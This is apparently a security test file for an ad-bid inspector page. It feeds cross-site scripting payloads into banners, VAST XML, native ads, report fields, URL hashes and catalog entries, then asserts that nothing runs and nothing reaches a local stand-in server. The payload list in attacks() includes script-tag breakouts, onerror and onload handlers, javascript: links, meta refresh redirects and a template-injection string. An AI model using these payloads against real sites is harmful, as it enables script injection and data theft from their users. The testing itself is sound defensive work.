//! The inspector with creatives, requests, reports and catalogs that want to run scripts in it or to reach the network. A
//! server of somebody else listens under every name, and must not hear of a look.

import { afterAll, afterEach, beforeEach, describe, expect, it } from "vitest";
import { accept, open, overflow, page, settled, startOutside, unfold } from "./inspector.ts";
import { bidderWith, EXAMPLE } from "./pushed.ts";

/** Time in which whatever would run has run. */
const PATIENCE_MS = 700;

const outside = await startOutside();
const started = bidderWith([{ document: EXAMPLE }]);

afterAll(() => outside.stop());

beforeEach(() => {
  outside.asked.length = 0;
});

// What the policy has blocked is told on the console, and is no misdeed.
afterEach(() => accept(/Content Security Policy|sandboxed/));

/** Texts that run something or ask outside, wherever a page takes a text for markup, an address or a script. */
function attacks(name: string, origin = outside.origin): string[] {
  const url = `${origin}/${name}`;
  const run = `window.ran='${name}';top.ran='${name}';alert('${name}');new Image().src='${url}'`;
  return [
    `<script>${run}</script>`,
    `</script><script>${run}</script>`,
    `"><script src="${url}.js"></script>`,
    `'"><img src=x onerror="${run}">`,
    `<svg onload="${run}"><animate onbegin="${run}" attributeName=x dur=1s></svg>`,
    `<iframe srcdoc="<script>${run}</script>"></iframe>`,
    `"></iframe><script>${run}</script><iframe srcdoc="`,
    `javascript:${run}`,
    `<a href="javascript:${run}" id=x autofocus onfocus="${run}">x</a>`,
    `<img src="${url}.png"><link rel=stylesheet href="${url}.css"><style>@import "${url}.css";body{background:url(${url}.bg)}</style>`,
    `<meta http-equiv=refresh content="0;url=${url}"><base href="${url}/">`,
    `<form action="${url}"><input name=x autofocus onfocus="this.form.submit()"></form><object data="${url}"></object><embed src="${url}">`,
    `<video src="${url}.mp4" autoplay poster="${url}.png"></video><math><mtext><table><mglyph><style><img src=x onerror="${run}">`,
    "\u2028\u2029<!--<script>]]>{{constructor.constructor('alert(1)')()}}",
  ];
}

/** The numbers of the attacks. */
const ATTACKS = attacks("", "").map((_, n) => n);

/** Opens all boxes, and waits until everything that would run has run. */
async function provoke(): Promise<void> {
  await settled();
  await unfold();
  await page.waitForTimeout(PATIENCE_MS);
}

/** Whether anything ran or was asked for outside. */
async function expectQuiet(view = "request"): Promise<void> {
  const ran = await Promise.all(
    page.frames().map((frame) => frame.evaluate(() => (globalThis as { ran?: string }).ran)),
  );
  expect(ran.filter(Boolean)).toEqual([]);
  expect(outside.asked).toEqual([]);
  expect(page.url()).toContain(`/inspect#${view}`);
  expect(await page.locator("main img, main script").count()).toBe(0);
}

/** Opens the page with this bid in the real report. */
async function openWith(bid: Record<string, unknown>): Promise<void> {
  await page.route("**/explain/**", async (route) => {
    const response = await route.fetch();
    const report = await response.json();
    const sent = { id: "1", impid: "1", price: 1, cid: "c", crid: "r", ...bid };
    await route.fulfill({ response, json: { ...report, response: { cur: "USD", seatbid: [{ bid: [sent] }] } } });
  });
  await open(started.bidder);
  await provoke();
}

/** The value with other texts; each place has a number of its own. */
function withTexts(value: unknown, other: (n: number) => string, n = 0): unknown {
  if (typeof value === "string") return other(n);
  if (Array.isArray(value)) return value.map((item, at) => withTexts(item, other, n + at));
  if (typeof value !== "object" || value === null) return value;
  const members = Object.entries(value).map(([key, member], at) => [key, withTexts(member, other, n * 3 + at)]);
  return Object.fromEntries(members);
}

it.each(ATTACKS)("banner %i runs nothing and loads nothing", async (n) => {
  const [adm] = attacks("banner").slice(n);
  await openWith({ mtype: 1, w: 300, h: 250, adm });
  await expectQuiet();
});

it("all attacks at once in VAST, as texts, addresses and companions", async () => {
  const all = attacks("vast")
    .map((text) => `<![CDATA[${text.replaceAll("]]>", "")}]]>`)
    .join("");
  const adm = `<VAST version="4.0"><Ad><InLine><AdTitle>${all}</AdTitle><Impression>${all}</Impression>
    <AdVerifications><Verification vendor="&lt;script>"><JavaScriptResource>${all}</JavaScriptResource></Verification></AdVerifications>
    <Creatives><Creative><Linear skipoffset="00:00:01"><Duration>00:00:04</Duration>
      <TrackingEvents><Tracking event="start">${all}</Tracking><Tracking event="&lt;img src=x onerror=alert(1)>">${all}</Tracking></TrackingEvents>
      <VideoClicks><ClickThrough>${all}</ClickThrough></VideoClicks><MediaFiles><MediaFile type="video/mp4">${all}</MediaFile></MediaFiles>
    </Linear></Creative><Creative><CompanionAds>
      <Companion width="300" height="250"><HTMLResource>${all}</HTMLResource></Companion>
      <Companion width="300" height="250"><IFrameResource>${all}</IFrameResource></Companion>
      <Companion width="300" height="250"><StaticResource>${outside.origin}/companion.png</StaticResource></Companion>
    </CompanionAds></Creative></Creatives></InLine></Ad>
    <script xmlns="http://www.w3.org/1999/xhtml">top.ran='xml'</script></VAST>`;
  await openWith({ mtype: 2, adm });
  await page.getByRole("button", { name: "Play", exact: true }).click();
  await page.locator(".trackers .reached").first().waitFor();
  await settled();
  await expectQuiet();
});

it.each(ATTACKS)("native ad %i is text, and its pictures only load when asked for", async (n) => {
  const [text] = attacks("native").slice(n);
  const picture = `${outside.origin}/picture.png`;
  const adm = JSON.stringify({
    assets: [
      { id: 1, title: { text } },
      { id: 2, img: { url: picture, w: 1200, h: 627 } },
      { id: 3, data: { value: text } },
      { id: 4, video: { vasttag: text } },
      { id: 5, img: { url: text, w: 80, h: 80 } },
    ],
    link: { url: text, clicktrackers: [text] },
    imptrackers: [text],
    eventtrackers: [{ event: 1, method: 2, url: text }],
    privacy: text,
    jstracker: text,
  });
  await openWith({ mtype: 4, adm });
  await expectQuiet();
  expect(await page.locator(".native strong").textContent()).toBe(text);
});

it("every text of the request, the report and the response is only a text", async () => {
  const texts = attacks("report");
  await page.route("**/explain/**", async (route) => {
    const url = route.request().url();
    const response = await route.fetch({ url: url.replace(/version=[^&]*/, "") });
    const report = await response.json();
    const hostile = {
      ...(withTexts(report, (n) => texts[n % texts.length] ?? "") as object),
      checks: texts,
      work: Object.fromEntries(texts.map((text) => [text, 5])),
      signals: texts.map((text) => ({ signal: text, said: text, means: text, at: [text] })),
      assumed: texts,
      outcome: report.outcome === "bid" ? "bid" : texts[0],
    };
    await route.fulfill({ response, json: hostile });
  });
  const beside = encodeURIComponent(texts[0] ?? "");
  await open(started.bidder, `request?example=bid%2Fcampaign-paid-in-euros&beside=${beside}`);
  await provoke();
  await expectQuiet();
  await page.getByLabel("Floor (bidfloor)").fill("99");
  await provoke();
  for (const text of texts) {
    await page.getByLabel("Site's domain").fill(text);
    await page.getByLabel("Country").fill(text);
  }
  for (const signal of await page.getByLabel("Privacy").getByRole("button").all()) await signal.click();
  await provoke();
  await expectQuiet();
});

it("texts without a place to break do not make the page wider than its window", async () => {
  const long = "x".repeat(3000);
  const lengthened = (value: unknown) => withTexts(value, () => long);
  let outcome = "bid";
  await page.route("**/explain/**", async (route) => {
    const response = await route.fetch();
    const { response: sent, ...report } = await response.json();
    const signals = [{ signal: long, said: long, means: long, at: [long] }];
    const json = { ...(lengthened(report) as object), outcome, signals, assumed: [long], response: lengthened(sent) };
    await route.fulfill({ response, json });
  });
  for (outcome of ["bid", long]) {
    await open(started.bidder, "request?example=bid%2Fcampaign-paid-in-euros");
    await provoke();
    for (const width of [400, 1280]) {
      await page.setViewportSize({ width, height: 900 });
      expect(await overflow()).toBe(0);
    }
  }
});

it("a hostile address of the page runs nothing", async () => {
  for (const text of attacks("hash")) {
    const part = encodeURIComponent(text);
    await page.goto("about:blank");
    await page.goto(
      `${started.bidder.origin}/inspect#request?example=${part}&ssp=${part}&version=${part}&beside=${part}&now=${part}`,
    );
    await page.waitForTimeout(100);
  }
  await provoke();
  accept(
    /Failed to load resource: the server responded with a status of 4\d\d|does not conform to the required format/,
  );
  await expectQuiet();
});

it("a person can load the pictures of a creative; its scripts still do not run", async () => {
  await openWith({
    mtype: 1,
    w: 300,
    h: 250,
    adm: `<img src="${outside.origin}/wanted.png" onload="top.ran='image'"><script src="${outside.origin}/script.js"></script><script>top.ran='inline'</script>`,
  });
  await expectQuiet();
  expect(await page.getByLabel("Answer").innerText()).toContain("A script of the creative does not run here");
  await page.getByRole("button", { name: "Load its outside images" }).click();
  await expect.poll(() => outside.asked).toEqual(["/wanted.png"]);
  await page.waitForTimeout(PATIENCE_MS);
  expect(outside.asked).toEqual(["/wanted.png"]);
  expect(await page.evaluate(() => (globalThis as { ran?: string }).ran)).toBeUndefined();
});

describe("a catalog with a hostile text in every place", () => {
  const evil = (n: string) => `"><img src=x onerror="alert('${n}')"><script>alert('${n}')</script>\u202e${n}`;

  const adm = `<script>parent.postMessage("x", "*"); top.location = "${outside.origin}/top"</script>
      <iframe src="${outside.origin}/frame"></iframe><a href="javascript:alert(3)" target="_top">x</a>
      ${attacks("catalog").join("")}`;
  const campaign = {
    ...{ cid: evil("cid"), name: evil("name"), seat: evil("seat"), adomain: ["evil.example"], max_cpm: "9.00" },
    ...{ creatives: [evil("crid")], target: { domain: { include: ["news.example"] } } },
  };
  const native = { title: evil("title"), link: "https://evil.example/", data: [{ type: 2, value: evil("data") }] };
  const document = {
    ...{ format: 1, privacy: { bid_unregistered: false } },
    ssps: [{ id: "demo" }, { id: "other", seat: evil("ssp") }],
    creatives: [
      { crid: evil("crid"), banner: { w: 300, h: 250, adm } },
      { crid: "native", native },
    ],
    campaigns: [campaign, { ...campaign, cid: "native", creatives: ["native"] }],
  };
  const before = { ...document, campaigns: [{ ...campaign, name: evil("next"), max_cpm: "9.10" }] };
  const hostile = bidderWith(
    [
      { document: before, note: evil("note") },
      { document, note: evil("second") },
    ],
    "bl",
  );

  it.each(["catalog", "money", "versions"])("runs nothing in %s, and loads nothing", async (view) => {
    await open(hostile.bidder, view);
    await provoke();
    if (view === "catalog") await page.locator("iframe").first().waitFor();
    expect(await page.locator("main").innerText()).toContain("<img src=x onerror=");
    await expectQuiet(view);
  });
});
